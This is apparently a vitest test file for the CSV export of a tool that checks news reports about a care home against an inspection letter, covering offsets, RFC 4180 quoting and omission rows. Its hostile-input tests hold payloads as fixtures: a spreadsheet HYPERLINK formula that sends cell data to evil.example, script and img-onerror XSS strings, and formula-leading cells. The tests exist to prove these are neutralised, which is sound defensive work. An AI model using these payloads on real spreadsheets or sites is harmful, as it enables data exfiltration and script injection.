import { describe, expect, it } from "vitest";
import { CSV_COLUMNS, csvCell, renderCsv } from "../../src/report/csv.js";
import {
  ARTICLE_SENTENCE,
  ARTICLE_TEXT,
  careHomeComparison,
  careHomeDecisions,
  hostileComparison,
  hostileDecisions,
  LETTER_TEXT,
  LONG_SENTENCE,
  spanOf,
} from "../fixtures/comparisonFixture.js";
import { controlCharsIn } from "../fixtures/controlChars.js";
import { parseCsv } from "../fixtures/parseCsv.js";

type Row = Record<(typeof CSV_COLUMNS)[number], string> & Record<string, string>;

/** The finding rows (omission rows are checked on their own below). */
function rows(csv: string, type = "finding"): Row[] {
  return allRows(csv).filter((r) => r.type === type);
}

function allRows(csv: string): Row[] {
  const [header = [], ...records] = parseCsv(csv.replace(/^\uFEFF/, ""));
  for (const column of CSV_COLUMNS) expect(header).toContain(column);
  return records.map((record) => {
    expect(record).toHaveLength(header.length);
    return Object.fromEntries(header.map((column, i) => [column, record[i] ?? ""])) as Row;
  });
}

describe("renderCsv", () => {
  const csv = renderCsv(careHomeComparison(), careHomeDecisions);
  const table = rows(csv);

  it("has a header and one CRLF-terminated row per finding of every document", () => {
    expect(csv.startsWith(`${CSV_COLUMNS.join(",")}\r\n`)).toBe(true);
    expect(allRows(csv).filter((r) => r.type === "omission").length).toBeGreaterThan(0);
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(csv.replace(/\r\n/g, "")).not.toMatch(/\r/);
    expect(table).toHaveLength(11);
    expect(table.map((r) => r.document)).toEqual([
      ...Array(10).fill("news/hartford-gazette-willow-bank.txt"),
      "news/hartford-weekly-2019-archive.txt",
    ]);
  });

  it("carries both texts, offsets, similarity, reason and the reviewer's verdict and note", () => {
    const press = 'The report said medicines were "always managed safely" at the home.';
    const letter =
      'Medicines were mostly managed safely, although records for "as required" medicines were not always complete.';
    const { id, ...row } = table[2] ?? ({} as Row);
    expect(id).toBe(careHomeComparison().documents[0]?.findings[2]?.id);
    expect(row).toEqual({
      type: "finding",
      document: "news/hartford-gazette-willow-bank.txt",
      kind: "quote-altered",
      flags: "",
      press_text: press,
      press_start: String(ARTICLE_TEXT.indexOf(press)),
      press_end: String(ARTICLE_TEXT.indexOf(press) + press.length),
      letter_text: letter,
      letter_start: String(LETTER_TEXT.indexOf(letter)),
      letter_end: String(LETTER_TEXT.indexOf(letter) + letter.length),
      similarity: "0.67",
      reason: '"mostly" became "always" inside the quotation marks.',
      rules: "",
      closest_start: "",
      closest_end: "",
      closest_similarity: "",
      verdict: "confirmed",
      note: "Checked against page 2 | the letter says mostly",
    });
    expect(table[1]?.flags).toBe("misattributed");
    expect(table[4]?.verdict).toBe("dismissed");
    expect(table[7]).toMatchObject({ verdict: "", note: "Ask the editor where this came from" });
  });

  it("quotes fields with commas and quotes, doubling inner quotes (RFC 4180)", () => {
    expect(csv).toContain(',"The report said medicines were ""always managed safely"" at the home.",');
    expect(csv).toContain(',"Staffing levels had improved since the last inspection, the report says.",');
  });

  it("gives offsets that slice the document text by UTF-16 units, after emoji", () => {
    const families = table.find((r) => r.kind === "not-checked" && r.press_text.includes("👵🏽"));
    expect(families?.press_text).toBe(ARTICLE_SENTENCE.multilingual);
    expect(ARTICLE_TEXT.slice(Number(families?.press_start), Number(families?.press_end))).toBe(
      ARTICLE_SENTENCE.multilingual,
    );
  });

  it("gives each letter source its own columns, so every offset stays a number (issue 14, item 6)", () => {
    const c = careHomeComparison();
    const finding = c.documents[0]?.findings[0];
    if (!finding) throw new Error("fixture");
    const second = spanOf(LETTER_TEXT, "Activities were varied and people enjoyed the garden.");
    finding.letter.push(second);
    finding.flags = ["selective", "understated"];
    const [row] = rows(renderCsv(c));
    const first = finding.letter[0];
    expect(row?.letter_text).toBe(first?.text);
    expect(row?.letter_start).toBe(String(first?.start));
    expect(row?.letter_2_text).toBe(second.text);
    expect(row?.letter_2_start).toBe(String(second.start));
    expect(row?.letter_2_end).toBe(String(second.end));
    expect(row?.flags).toBe("selective;understated");
    // Rows with one source leave the second group empty.
    expect(rows(renderCsv(c))[1]?.letter_2_text).toBe("");
  });

  it("lists omissions as rows of type 'omission', with their decisions (issue 14, item 6)", () => {
    const c = careHomeComparison();
    const omission = c.documents[0]?.omissions[0];
    if (!omission) throw new Error("fixture");
    const decided = {
      [omission.id]: { verdict: "confirmed" as const, note: "page 3", updatedAt: "2026-01-01" },
    };
    const [row] = rows(renderCsv(c, decided), "omission");
    expect(row).toMatchObject({
      type: "omission",
      document: "news/hartford-gazette-willow-bank.txt",
      id: omission.id,
      kind: "",
      press_text: "",
      letter_text: omission.text,
      letter_start: String(omission.start),
      reason: omission.reason,
      verdict: "confirmed",
      note: "page 3",
    });
  });

  it("starts with a byte-order mark only when asked (--bom, for Excel)", () => {
    expect(renderCsv(careHomeComparison()).startsWith("type,")).toBe(true);
    expect(renderCsv(careHomeComparison(), {}, { bom: true }).startsWith("\uFEFFtype,")).toBe(true);
  });
});

describe("renderCsv with hostile input", () => {
  const csv = renderCsv(hostileComparison(), hostileDecisions);
  const table = rows(csv);

  it("prefixes cells that a spreadsheet would run as formulas with a single quote", () => {
    expect(table[2]?.press_text).toBe('\'=HYPERLINK("http://evil.example/?q="&A1,"Click") said the report.');
    expect(table[3]?.press_text).toBe("'+1 for the home, inspectors said.");
    expect(table[4]?.press_text).toBe("'-2 stars for safety, the report said.");
    expect(table[5]?.press_text).toBe("'@SUM(A1:A9) of praise from the CQC.");
    expect(table[0]?.note).toBe("'@SUM(1+1) <script>alert(1)</script>\n# not a heading");
    expect(table[3]?.note).toBe("'-2+3");
    for (const row of table) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it("strips terminal escapes and control characters", () => {
    expect(controlCharsIn(csv, "\r\n\t")).toEqual([]);
    expect(table[6]?.press_text).toBe('RED ALERT inspectors said the home was "unsafe".');
  });

  it("keeps markup as plain text and a very long sentence whole", () => {
    expect(table[0]?.press_text).toBe("Headline <script>alert(1)</script> about the care home");
    expect(table[0]?.document).toBe('reports/"><img src=x onerror=alert(1)>|evil.html');
    expect(table[8]?.press_text).toBe(LONG_SENTENCE);
  });
});

describe("csvCell", () => {
  it("guards tab-led cells and quotes cells with line breaks", () => {
    expect(csvCell("\t=1")).toBe("'\t=1");
    expect(csvCell("a\nb")).toBe('"a\nb"');
    expect(csvCell("a\r\nb")).toBe('"a\nb"');
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell('=1,"2"')).toBe('"\'=1,""2"""');
  });
});
